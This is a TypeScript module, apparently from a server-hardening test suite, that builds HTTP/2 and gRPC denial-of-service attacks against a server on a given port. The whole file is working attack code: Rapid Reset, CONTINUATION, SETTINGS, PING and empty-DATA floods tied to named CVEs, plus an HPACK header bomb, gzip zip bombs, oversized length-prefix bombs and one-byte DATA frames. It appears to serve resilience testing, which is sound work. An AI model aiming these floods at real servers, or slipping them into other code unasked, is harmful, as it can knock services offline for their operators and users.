import { gzipSync } from "node:zlib";
import { Flag, FrameType, type Http2Frame } from "../../frames/frame.js";
import { data, headers, ping, reset, settings, unfinishedHeaders } from "../../frames/frames.js";
import { frameMessage, requestFields, requestMessage } from "../../frames/grpc.js";
import { encodeFields } from "../../frames/hpack.js";
import { type Flood, flood } from "./flood.js";

/** The ids of a number of new streams in each batch. */
function streams(index: number, count: number): readonly number[] {
  return Array.from({ length: count }, (_, offset) => 2 * (index * count + offset) + 1);
}

function runner(plan: Flood): (port: number) => Promise<string> {
  return (port) => flood(port, plan);
}

const CANCEL = 8;
const call = requestFields("ClientStream");

/** CVE-2023-44487. */
export const rapidReset = runner({
  unit: "resets",
  unitsPerBatch: 100,
  batch: (index) => streams(index, 100).flatMap((stream) => [headers(stream, call), reset(stream, CANCEL)]),
});

const fragment: Http2Frame = {
  type: FrameType.CONTINUATION,
  stream: 1,
  payload: encodeFields([["x-flood", "x".repeat(1000)]]),
};
const fragments = Array.from({ length: 100 }, () => fragment);

/** CVE-2024-27316: a block of headers that never ends. */
export const continuationFlood = runner({
  unit: "CONTINUATION frames",
  unitsPerBatch: fragments.length,
  first: [unfinishedHeaders(1, call)],
  batch: () => fragments,
});

const manySettings = Array.from({ length: 500 }, () => settings({ 3: 100, 4: 65_535, 5: 16_384 }));

/** CVE-2019-9515: the server has to acknowledge each, and the attacker does not read. */
export const settingsFlood = runner({
  unit: "SETTINGS frames",
  unitsPerBatch: manySettings.length,
  batch: () => manySettings,
  silent: true,
});

const manyPings = Array.from({ length: 500 }, (_, id) => ping(id));

/** CVE-2019-9512: as above. */
export const pingFlood = runner({
  unit: "PING frames",
  unitsPerBatch: manyPings.length,
  batch: () => manyPings,
  silent: true,
});

/** A header of 4,000 bytes that goes into the dynamic table (RFC 7541, section 6.2.1), and 16,000 references to it. */
function bomb(stream: number): Http2Frame {
  const [entry = Buffer.alloc(0)] = [encodeFields([["bomb", "x".repeat(3_900)]])];
  entry.writeUInt8(0x40, 0);
  const newestEntry = 0x80 | 62;
  const payload = Buffer.concat([encodeFields(call), entry, Buffer.alloc(12_000, newestEntry)]);
  return { type: FrameType.HEADERS, flags: Flag.END_HEADERS | Flag.END_STREAM, stream, payload };
}

/** 16 kB of headers that stand for 47 MB. */
export const headerBombs = runner({
  unit: "blocks of 47 MB",
  unitsPerBatch: 1,
  batch: (index) => streams(index, 1).map(bomb),
});

const MIB = 1024 * 1024;
/** The largest message that a server takes by default: all its 4 MiB are in one field. And one of 64 MiB. */
const zipped = [4 * MIB - 16, 64 * MIB].map((size) =>
  frameMessage(gzipSync(requestMessage({ data: new Uint8Array(size) }).subarray(5)), 1),
);
const zippedCall = requestFields("Unary", [["grpc-encoding", "gzip"]]);

/** Compressed messages of 4 MiB and of 64 MiB. */
export const zipBombs = runner({
  unit: "zipped messages",
  unitsPerBatch: 4,
  waits: true,
  batch: (index) =>
    streams(index, 4).flatMap((stream, at) => [
      headers(stream, zippedCall),
      ...inFrames(stream, zipped[at % 4 === 3 ? 1 : 0] ?? Buffer.alloc(0)),
    ]),
});

/** The bytes of a body in frames of at most 16 KiB. */
function inFrames(stream: number, body: Buffer): readonly Http2Frame[] {
  const size = 16 * 1024;
  return Array.from({ length: Math.ceil(body.length / size) }, (_, index) => {
    const part = body.subarray(index * size, (index + 1) * size);
    return data(stream, part, { endStream: (index + 1) * size >= body.length });
  });
}

/** The prefix of a message of some bytes. */
function prefix(length: number): Buffer {
  const bytes = Buffer.alloc(5);
  bytes.writeUInt32BE(length, 1);
  return bytes;
}

/** Messages that claim to have 4 MiB, of which only the first byte comes; one of 20 claims to have 4 GiB. */
export const prefixBombs = runner({
  unit: "prefixes",
  unitsPerBatch: 20,
  waits: true,
  batch: (index) =>
    // More streams than that are not allowed at a time.
    index >= 49
      ? undefined
      : streams(index, 20).flatMap((stream, at) => [
          headers(stream, call),
          data(stream, Buffer.concat([prefix(at === 0 ? 2 ** 32 - 1 : 4 * MIB - 1), Buffer.alloc(1)])),
        ]),
});

const tinyMessage = requestMessage({ data: new Uint8Array(2_000) });

/** Messages of 2 kB in DATA frames of one byte each. */
export const tinyData = runner({
  unit: "DATA frames",
  unitsPerBatch: tinyMessage.length,
  waits: true,
  batch: (index) =>
    streams(index, 1).flatMap((stream) => [
      headers(stream, call),
      ...[...tinyMessage].map((byte, at) =>
        data(stream, Buffer.of(byte), { endStream: at === tinyMessage.length - 1 }),
      ),
    ]),
});

const emptyFrames = Array.from({ length: 500 }, () => data(1, Buffer.alloc(0)));

/** CVE-2019-9518: DATA frames without a byte. */
export const emptyData = runner({
  unit: "DATA frames",
  unitsPerBatch: emptyFrames.length,
  first: [headers(1, call)],
  batch: () => emptyFrames,
});
